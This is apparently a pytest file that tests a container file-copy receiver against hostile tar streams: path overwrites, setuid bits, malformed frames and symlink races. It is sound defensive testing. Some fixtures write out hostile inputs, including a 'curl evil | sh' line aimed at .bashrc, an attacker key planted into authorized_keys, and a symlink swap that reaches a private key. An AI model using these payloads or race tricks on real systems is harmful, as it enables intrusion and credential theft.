"""`orch cp` against a hostile container: streams crafted as a container could send them,
fed to the real pull (remote/transfer.py's pull and its receiver, the code a pull runs
here), and a sender whose tree changes under it. What a pull writes is the name asked for,
with modes under the user's umask and no special bits, into folders that keep their own
modes; frames out of order or too large are refused before they are read."""

from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import tarfile
import time

import pytest

from orchestrator.ground.errors import PayloadError
from orchestrator.payloads import _tarstream as tarstream
from orchestrator.payloads._tarstream import (MAX_SMALL_FRAME, Receiver, TransferError, frame,
                                              send_frames)
from orchestrator.remote import transfer
from orchestrator.remote.base import Result

EMPTY_SIZE = b'{"bytes": 0, "files": 0}'


class HostileContainer:
    """A target whose `cp send` answers with the bytes it was given, whatever was asked."""

    name = "ct"

    def __init__(self, stream: bytes):
        self.stream = stream
        self.asked = []

    def run(self, argv, on_stdout=None, **options):
        self.asked.append(json.loads(argv[-1]))
        for at in range(0, len(self.stream), 65536):
            on_stdout(self.stream[at:at + 65536])
        return Result(argv, 0, b"", b"", 0.0, self.name)


def member(name, kind=tarfile.REGTYPE, data=b"", mode=0o644, mtime=1_600_000_000):
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.mtime = kind, mode, mtime
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, (data if kind == tarfile.REGTYPE else None)


def crafted(members, manifest=None, before=b"", size=EMPTY_SIZE) -> bytes:
    """A well-formed stream of these members (S, T, M), with `before` in front of its T."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    hashes = manifest if manifest is not None else {
        info.name: hashlib.sha256(data).hexdigest() for info, data in members if info.isreg()}
    return (frame(b"S", size) + before + frame(b"T", raw.getvalue())
            + frame(b"M", json.dumps({"sha256": hashes}).encode()))


@pytest.fixture
def home(tmp_path):
    """A user's home folder with a .bashrc and a 0700 .ssh, under umask 022."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh").chmod(0o700)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA mine\n")
    (home / ".bashrc").write_text("# mine\n")
    saved = os.umask(0o022)
    yield home
    os.umask(saved)


def pull(stream, source, dest, **options):
    return transfer.pull(HostileContainer(stream), source, str(dest), **options)


def everything(folder):
    return {os.path.relpath(os.path.join(top, name), folder): os.lstat(os.path.join(top, name))
            for top, dirs, files in os.walk(folder) for name in dirs + files}


def unchanged(home, before):
    after = everything(home)
    return after.keys() == before.keys() and all(
        (after[k].st_mode, after[k].st_mtime_ns, after[k].st_size)
        == (before[k].st_mode, before[k].st_mtime_ns, before[k].st_size) for k in before)


# ------------------------------------------------------------------ the name is the one asked for
def test_a_pull_of_a_log_cannot_write_bashrc(home):
    before = everything(home)
    stream = crafted([member(".bashrc", data=b"curl evil | sh\n")])
    with pytest.raises(PayloadError, match="'train.log' was asked for") as refused:
        pull(stream, "/root/train.log", str(home) + "/")
    assert refused.value.kind == "unsafe-member"
    assert (home / ".bashrc").read_text() == "# mine\n" and unchanged(home, before)


def test_a_pull_of_outputs_cannot_merge_into_dot_ssh(home):
    before = everything(home)
    stream = crafted([member(".ssh", tarfile.DIRTYPE, mode=0o777),
                      member(".ssh/authorized_keys", data=b"ssh-ed25519 AAAA attacker\n")])
    with pytest.raises(PayloadError, match="'outputs' was asked for"):
        pull(stream, "/root/outputs", home, recursive=True)
    assert (home / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA mine\n"
    assert stat.S_IMODE((home / ".ssh").stat().st_mode) == 0o700 and unchanged(home, before)


def test_a_file_asked_for_cannot_come_as_a_folder(home):
    stream = crafted([member("train.log", tarfile.DIRTYPE), member("train.log/x", data=b"1")])
    with pytest.raises(PayloadError, match="a file was asked for"):
        pull(stream, "/root/train.log", str(home) + "/")
    assert not (home / "train.log").exists()


def test_the_name_asked_for_is_the_one_the_sender_sends(tmp_path):
    """The pull expects top_name of the path it asks for; the sender's walk names its top
    entry with the same function, however the path is spelled."""
    (tmp_path / "x").mkdir()
    (tmp_path / "y").mkdir()
    for spelling in ("x", "x/", "./x", "y/../x"):
        path = os.path.join(str(tmp_path), spelling)
        top = next(tarstream.walk(path))[0]
        assert top == tarstream.top_name(path) == "x"
    assert tarstream.top_name("/") == "root"


# ------------------------------------------------------------------ modes
def test_setuid_setgid_and_world_writable_bits_are_not_kept(home):
    stream = crafted([member("tool", data=b"#!/bin/sh\n", mode=0o6777)])
    pull(stream, "/root/tool", str(home) + "/")
    assert stat.S_IMODE((home / "tool").stat().st_mode) == 0o755   # 0777 & ~umask 022
    (home / "tool").unlink()
    pull(stream, "/root/tool", str(home) + "/", special=True)       # --preserve-special
    assert stat.S_IMODE((home / "tool").stat().st_mode) == 0o6755


def test_a_folder_merged_into_keeps_its_mode_and_a_new_one_gets_the_umask(home):
    (home / "outputs").mkdir(mode=0o700)
    (home / "outputs").chmod(0o700)
    os.utime(home / "outputs", (1_000_000_000, 1_000_000_000))
    stream = crafted([member("outputs", tarfile.DIRTYPE, mode=0o777, mtime=1_700_000_000),
                      member("outputs/new", tarfile.DIRTYPE, mode=0o1777),
                      member("outputs/new/ckpt", data=b"w", mode=0o666)])
    pull(stream, "/root/outputs", home, recursive=True)
    info = (home / "outputs").stat()
    # its mode as it was, its time the kernel's (an entry was added), not the container's
    assert stat.S_IMODE(info.st_mode) == 0o700 and int(info.st_mtime) != 1_700_000_000
    assert stat.S_IMODE((home / "outputs" / "new").stat().st_mode) == 0o755
    assert stat.S_IMODE((home / "outputs" / "new" / "ckpt").stat().st_mode) == 0o644


def test_folder_modes_are_set_through_descriptors_where_glibc_cannot_chmod_by_name(
        home, monkeypatch):
    """glibc older than 2.32 (Debian 11, Ubuntu 20.04): chmod(dir_fd=, follow_symlinks=False)
    raises NotImplementedError; a merge must not depend on it (it came after the renames)."""
    real_chmod = os.chmod

    def old_glibc_chmod(path, mode, *, dir_fd=None, follow_symlinks=True):
        if dir_fd is not None and not follow_symlinks:
            raise NotImplementedError("chmod: follow_symlinks unavailable on this platform")
        return real_chmod(path, mode, dir_fd=dir_fd, follow_symlinks=follow_symlinks)

    monkeypatch.setattr(os, "chmod", old_glibc_chmod)
    (home / "outputs").mkdir()
    stream = crafted([member("outputs", tarfile.DIRTYPE),
                      member("outputs/sub", tarfile.DIRTYPE, mode=0o750),
                      member("outputs/sub/a", data=b"a")])
    pull(stream, "/root/outputs", home, recursive=True)
    assert stat.S_IMODE((home / "outputs" / "sub").stat().st_mode) == 0o750
    assert (home / "outputs" / "sub" / "a").read_bytes() == b"a"


# ------------------------------------------------------------------ frames
def _counting(stream: bytes):
    """read_exact over stream, and how many bytes it handed out."""
    source, given = io.BytesIO(stream), [0]

    def read_exact(size):
        data = source.read(size)
        given[0] += len(data)
        return data
    return read_exact, given


def test_an_oversized_s_frame_is_refused_before_it_is_read(tmp_path):
    size = json.dumps({"bytes": 0, "files": 0, "pad": "x" * (20 << 20)}).encode()
    stream = crafted([member("f", data=b"1")], size=size)
    read_exact, given = _counting(stream)
    started = time.process_time()
    with pytest.raises(TransferError, match="frame b'S' of") as refused:
        Receiver(str(tmp_path / "f")).receive(read_exact)
    assert refused.value.kind == "bad-stream" and given[0] <= 64
    assert time.process_time() - started < 1.0 and not (tmp_path / "f").exists()


@pytest.mark.parametrize("extra, said", [
    (frame(b"S", EMPTY_SIZE), "a second S frame"),
    (frame(b"X", json.dumps({"message": "x" * (2 * MAX_SMALL_FRAME)}).encode()), "frame b'X' of"),
    (frame(b"M", b'{"sha256": {}}'), "the manifest came before the tar's end"),
])
def test_frames_out_of_order_or_too_large_are_refused(home, extra, said):
    stream = crafted([member("f", data=b"1")], before=extra)
    with pytest.raises(PayloadError, match=said) as refused:
        pull(stream, "/root/f", str(home) + "/")
    assert refused.value.kind == "bad-stream" and not (home / "f").exists()


def test_a_tar_frame_before_the_s_frame_is_refused(tmp_path):
    stream = crafted([member("f", data=b"1")])
    header_length = 5 + len(EMPTY_SIZE)
    swapped = stream[header_length:]  # no S frame at all
    with pytest.raises(TransferError, match="before the stream's S frame"):
        Receiver(str(tmp_path / "f")).receive(io.BytesIO(swapped).read)


def test_a_manifest_larger_than_what_was_received_is_refused_unread(tmp_path):
    names = {f"f{i:07d}": "0" * 64 for i in range(200_000)}   # ~17 MB of names never sent
    stream = crafted([member("f", data=b"1")], manifest=names)
    read_exact, given = _counting(stream)
    with pytest.raises(TransferError, match="frame b'M' of") as refused:
        Receiver(str(tmp_path / "f")).receive(read_exact)
    assert refused.value.kind == "bad-stream" and given[0] < 64 << 10
    assert not (tmp_path / "f").exists()


def test_endless_tar_bytes_after_the_end_are_refused(tmp_path):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info, data = member("f", data=b"1")
        tar.addfile(info, io.BytesIO(data))
    zeros = frame(b"T", b"\0" * (64 << 10))
    stream = (frame(b"S", EMPTY_SIZE) + frame(b"T", raw.getvalue()) + zeros * 100
              + frame(b"M", json.dumps({"sha256": {"f": hashlib.sha256(b"1").hexdigest()}}).encode()))
    read_exact, given = _counting(stream)
    with pytest.raises(TransferError, match="after the tar's end"):
        Receiver(str(tmp_path / "f")).receive(read_exact)
    assert given[0] < 200 << 10


def test_a_well_formed_stream_still_pulls(home):
    stream = crafted([member("train.log", data=b"step 1\n", mode=0o640)])
    done = pull(stream, "/root/train.log", str(home) + "/")
    assert (home / "train.log").read_bytes() == b"step 1\n" and done["files"] == 1
    assert stat.S_IMODE((home / "train.log").stat().st_mode) == 0o640


# ------------------------------------------------------------------ the sender's walk
@pytest.fixture
def swap(tmp_path):
    """outputs/sub and a root-only folder; swap() replaces sub with a link to that folder,
    as another account of the container could while root's sender walks outputs/."""
    secret = tmp_path / "root-only"
    secret.mkdir()
    (secret / "id_ed25519").write_bytes(b"PRIVATE-KEY-BYTES")
    tree = tmp_path / "outputs"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "x").write_bytes(b"x")
    done = []

    def swap():
        if not done:
            os.rename(tree / "sub", tmp_path / "moved")
            os.symlink(secret, tree / "sub")
            done.append(True)
    swap.tree, swap.sub = tree, os.stat(tree / "sub")
    return swap


def test_a_folder_swapped_for_a_link_as_it_is_listed_is_not_followed(swap, tmp_path, monkeypatch):
    real_scandir, listings = os.scandir, []

    def scandir(where):   # the swap lands just before the sender lists the folder "sub"
        info = os.fstat(where) if isinstance(where, int) else os.stat(where)
        if (info.st_dev, info.st_ino) == (swap.sub.st_dev, swap.sub.st_ino):
            listings.append(where)
            if len(listings) == 2:   # the first walk measured the tree (the S frame)
                swap()
        return real_scandir(where)

    monkeypatch.setattr(os, "scandir", scandir)
    sent = b"".join(send_frames(str(swap.tree)))
    assert b"PRIVATE-KEY-BYTES" not in sent
    Receiver(str(tmp_path / "back")).receive(io.BytesIO(sent).read)
    assert (tmp_path / "back" / "sub" / "x").read_bytes() == b"x"   # the folder listed, moved


def test_a_folder_swapped_for_a_link_before_it_is_opened_is_an_error(swap, tmp_path, monkeypatch):
    real_open, opened = os.open, []

    def open_(name, flags, mode=0o777, *, dir_fd=None):
        if name == "sub" and dir_fd is not None:
            opened.append(name)
            if len(opened) == 2:     # the sending walk's, after the measuring one's
                swap()
        return real_open(name, flags, mode, dir_fd=dir_fd)

    monkeypatch.setattr(os, "open", open_)
    sent = b"".join(send_frames(str(swap.tree)))
    assert b"PRIVATE-KEY-BYTES" not in sent
    with pytest.raises(TransferError, match="changed while it was copied"):
        Receiver(str(tmp_path / "back")).receive(io.BytesIO(sent).read)


# ------------------------------------------------------------------ the destination's folders
@pytest.mark.skipif(os.geteuid() != 0, reason="planting another uid's link needs root")
def test_a_destination_through_another_accounts_link_is_refused(tmp_path):
    victim = tmp_path / "etc"
    victim.mkdir()
    shared = tmp_path / "shared"
    shared.mkdir()
    os.symlink(victim, shared / "drop")
    os.lchown(shared / "drop", 4242, 4242)          # planted by uid 4242
    stream = crafted([member("f", data=b"evil")])
    with pytest.raises(TransferError, match="symbolic link of uid 4242") as refused:
        Receiver(str(shared / "drop") + "/").receive(io.BytesIO(stream).read)
    assert refused.value.kind == "unsafe-dest" and os.listdir(victim) == []
    os.lchown(shared / "drop", os.geteuid(), os.getegid())    # our own link is followed
    Receiver(str(shared / "drop") + "/").receive(io.BytesIO(stream).read)
    assert (victim / "f").read_bytes() == b"evil"
